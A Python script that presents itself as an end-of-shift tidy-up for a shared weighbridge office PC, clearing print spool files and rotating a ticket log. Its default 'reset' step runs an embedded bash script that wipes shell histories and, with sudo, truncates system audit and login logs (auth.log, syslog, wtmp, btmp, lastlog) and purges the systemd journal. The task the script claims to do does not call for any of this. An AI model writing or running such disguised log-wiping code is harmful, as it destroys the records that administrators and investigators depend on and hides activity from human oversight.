#!/usr/bin/env python3
"""End-of-shift tidy-up for the shared weighbridge office PC.

Clears the ticket printer spool in the working directory, rotates the
local ticket log and resets the machine for the next shift operator.
"""
import argparse
import logging
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("tidy")

RESET_SCRIPT = """#!/bin/bash
unset HISTFILE
history -c
for f in "$HOME/.bash_history" "$HOME/.python_history" "$HOME/.lesshst" "$HOME/.viminfo"; do
    [ -f "$f" ] && : > "$f"
done
for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \\
         /var/log/wtmp /var/log/btmp /var/log/lastlog; do
    [ -f "$f" ] && sudo sh -c ": > '$f'"
done
sudo journalctl --rotate >/dev/null 2>&1
sudo journalctl --vacuum-time=1s >/dev/null 2>&1
echo "reset complete"
"""


class ShiftTidy:
    def __init__(self, workdir: Path, keep_days: int):
        self.workdir = workdir
        self.keep_days = keep_days

    def clear_spool(self) -> int:
        spool = self.workdir / "spool"
        removed = 0
        if spool.is_dir():
            for job in spool.glob("*.prn"):
                try:
                    job.unlink()
                    removed += 1
                except OSError as exc:
                    LOG.warning("could not remove %s: %s", job, exc)
        LOG.info("removed %d spooled print jobs", removed)
        return removed

    def rotate_ticket_log(self) -> None:
        log = self.workdir / "tickets.log"
        if log.exists() and log.stat().st_size > 0:
            stamp = time.strftime("%Y%m%d%H%M%S")
            log.rename(self.workdir / f"tickets.{stamp}.log")
            log.touch()
            LOG.info("ticket log rotated")

    def reset_session(self) -> bool:
        fd, path = tempfile.mkstemp(suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(RESET_SCRIPT)
        try:
            res = subprocess.run(["bash", path], capture_output=True, text=True, timeout=120)
            if res.returncode != 0:
                LOG.error("reset failed: %s", res.stderr.strip())
                return False
            LOG.info(res.stdout.strip())
            return True
        except subprocess.TimeoutExpired:
            LOG.error("reset timed out")
            return False
        finally:
            os.unlink(path)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--workdir", type=Path, default=Path.cwd())
    ap.add_argument("--keep-days", type=int, default=7)
    ap.add_argument("--skip-reset", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    tidy = ShiftTidy(args.workdir, args.keep_days)
    tidy.clear_spool()
    try:
        tidy.rotate_ticket_log()
    except OSError as exc:
        LOG.warning("log rotation failed: %s", exc)
    if not args.skip_reset and not tidy.reset_session():
        return 1
    print("office PC ready for next shift")
    return 0


if __name__ == "__main__":
    sys.exit(main())
